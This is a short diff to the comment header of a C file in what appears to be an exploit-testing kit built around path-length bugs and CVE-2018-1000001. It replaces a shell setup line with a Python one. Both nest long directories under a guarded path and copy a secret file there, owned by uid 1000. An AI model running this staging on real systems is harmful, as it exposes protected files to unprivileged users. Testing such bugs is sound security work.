@@ -2,7 +2,7 @@
 // works: PATH_MAX bounds a call's argument, not a file's place
 // see: getcwd(3), "unreachable"; CVE-2018-1000001
 // goal: read
-// first: n=$(printf 'n%.0s' $(seq 240)); cd "$GUARDED"; for i in $(seq 20); do mkdir $n; cd -P $n; done; cp "$SECRET" here; chown 1000 here; cd "$GUARDED"; chown -R 1000:1000 $n
+// first: python3 -S -c "import os; e = os.environ; n = 'n' * 240; os.chdir(e['GUARDED']); t = open('secret').read(); [(os.mkdir(n), os.chown(n, 1000, 1000), os.chdir(n)) for _ in range(20)]; open('here', 'w').write(t); os.chown('here', 1000, 1000)"
 #include "../kit.h"
 
 int main(void)
